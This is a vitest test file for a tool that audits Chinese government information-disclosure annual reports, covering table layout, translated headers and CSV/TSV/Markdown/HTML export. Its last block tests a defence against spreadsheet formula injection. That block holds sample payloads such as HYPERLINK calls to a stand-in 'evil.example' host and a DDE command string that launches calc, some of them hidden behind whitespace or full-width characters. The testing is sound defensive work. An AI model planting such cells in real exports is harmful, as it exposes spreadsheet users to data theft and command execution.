import { describe, expect, it } from 'vitest';
import { defuse, toCsv, toHtmlTable, toMarkdown, toTsv } from '../../../lib/export/delimited';
import { reportMatrix, tableMatrix, wideRow } from '../../../lib/report/table-matrix';
import { checkText } from '../../../lib/pipeline';
import { seedText } from '../../helpers/seeds';

const report = (id: string) => checkText(seedText(id), id).report;

describe('tableMatrix in English', () => {
  it('should head the tables in English when the interface is English, with the same cells', () => {
    const r = report('002');
    const m = tableMatrix(r, 'requests', 'en');
    expect(m[0]).toEqual(['Item', 'natural persons', 'businesses', 'research bodies', 'non-profits', 'legal services', 'other organisations', 'total']);
    expect(m[24]).toEqual(['(7) total processed', '10', '0', '0', '0', '0', '0', '10']);
    expect(m.slice(1).map((row) => row.slice(1))).toEqual(
      tableMatrix(r, 'requests')
        .slice(1)
        .map((row) => row.slice(1)),
    );
    expect(tableMatrix(r, 'active', 'en')[0]).toEqual([
      'Item',
      'Information',
      'issued this year',
      'repealed this year',
      'in force',
      'decisions this year',
      'amount (10k yuan)',
    ]);
    expect(tableMatrix(r, 'active', 'en')[1]!.slice(0, 2)).toEqual(['Art. 20 (1)', 'regulations']);
    expect(tableMatrix(r, 'review', 'en')[0]).toEqual(['Category', 'upheld', 'corrected', 'other result', 'pending', 'total']);
    expect(reportMatrix(r, undefined, 'en')[2]).toEqual(['II. Proactive disclosure']);
  });
});

describe('tableMatrix', () => {
  it('should lay table 三 out in canonical rows and columns whatever the page did', () => {
    const m = tableMatrix(report('002'), 'requests');
    expect(m[0]).toEqual(['项目', '自然人', '商业企业', '科研机构', '社会公益组织', '法律服务机构', '其他', '总计']);
    expect(m).toHaveLength(26);
    expect(m[24]).toEqual(['（七）总计', '10', '0', '0', '0', '0', '0', '10']);
  });

  it('should line up two agencies cell for cell', () => {
    const a = reportMatrix(report('000'));
    const b = reportMatrix(report('003'));
    expect(a.map((r) => r.length)).toEqual(b.map((r) => r.length));
    expect(a.slice(1).map((r) => r[0])).toEqual(b.slice(1).map((r) => r[0]));
  });

  it('should keep a not-applicable mark instead of a 0, and leave inapplicable 表二 cells empty', () => {
    const r = report('000');
    r.tables.active!.regulations!.issued = { value: null, raw: '/' };
    const m = tableMatrix(r, 'active');
    expect(m[0]).toEqual(['项目', '信息内容', '本年制发件数', '本年废止件数', '现行有效件数', '本年处理决定数量', '本年收费金额（单位：万元）']);
    expect(m[1]).toEqual(['第二十条第（一）项', '规章', '/', '0', '0', '', '']);
    expect(m[3]).toEqual(['第二十条第（五）项', '行政许可', '', '', '', '0', '']);
  });

  it('should give one line per report with 200 table cells and a stable header', () => {
    const a = wideRow(report('002'));
    const b = wideRow(report('003'));
    expect(a.header).toEqual(b.header);
    expect(a.header).toHaveLength(11 + 10 + 175 + 15);
    expect(a.header.slice(5, 11)).toEqual(['结论', '错误', '警告', '提示', '未核', '已驳回']);
    expect(a.values.slice(0, 11)).toEqual([
      '北京市密云区商务局',
      '2023',
      '2021',
      '北京市密云区商务局2023年政府信息公开年度报告',
      '002',
      '有错误',
      '5',
      '3',
      '4',
      '0',
      '0',
    ]);
  });
});

describe('serialisers', () => {
  const m = [
    ['项目', '总计'],
    ['a\tb', '1'],
    ['say "x"', ''],
  ];
  it('should write TSV that quotes only cells holding tabs, line breaks or quotes', () => {
    expect(toTsv(m)).toBe('项目\t总计\r\n"a\tb"\t1\r\n"say ""x"""\t');
  });
  it('should write CSV with a UTF-8 BOM and CRLF', () => {
    expect(toCsv([['项目', '1,2']])).toBe('\ufeff项目,"1,2"\r\n');
  });
  it('should write Markdown with escaped pipes', () => {
    expect(
      toMarkdown([
        ['a|b', 'c'],
        ['1', '2'],
      ]),
    ).toBe('| a\\|b | c |\n| --- | --- |\n| 1 | 2 |');
  });
  it('should write an HTML table for the clipboard', () => {
    expect(toHtmlTable([['<x>', '1']])).toBe('<table><tr><td>&lt;x&gt;</td><td>1</td></tr></table>');
  });
});

describe('defuse (spreadsheet formula injection)', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?x","某局2023年政府信息公开工作年度报告")', `'=HYPERLINK("http://evil.example/?x","某局2023年政府信息公开工作年度报告")`],
    ["=cmd|' /C calc'!A0", `'=cmd|' /C calc'!A0`],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['+1+1', "'+1+1"],
    ['\tx', "'\tx"],
    ['-8', '-8'],
    ['+1036', '+1036'],
    ['-', '-'],
    ['北京市密云区商务局', '北京市密云区商务局'],
    // behind what a spreadsheet skips, and full-width (issue 11)
    ['\n=1+1', "'\n=1+1"],
    [' =1+1', "' =1+1"],
    ['\u00a0@SUM(A1)', "'\u00a0@SUM(A1)"],
    ['\ufeff=1+1', "'\ufeff=1+1"],
    ['＝HYPERLINK("http://evil.example")', `'＝HYPERLINK("http://evil.example")`],
    [' 12', ' 12'],
  ])('should make %j safe to open: %j', (cell, out) => expect(defuse(cell)).toBe(out));

  it('should defuse page text in every spreadsheet format it is written to', () => {
    const m = [['机关'], ['=HYPERLINK("http://evil.example","x")']];
    expect(toCsv(m)).toBe('\ufeff机关\r\n"\'=HYPERLINK(""http://evil.example"",""x"")"\r\n');
    expect(toTsv(m)).toBe('机关\r\n"\'=HYPERLINK(""http://evil.example"",""x"")"');
    expect(toHtmlTable(m)).toContain("<td>'=HYPERLINK");
  });
});
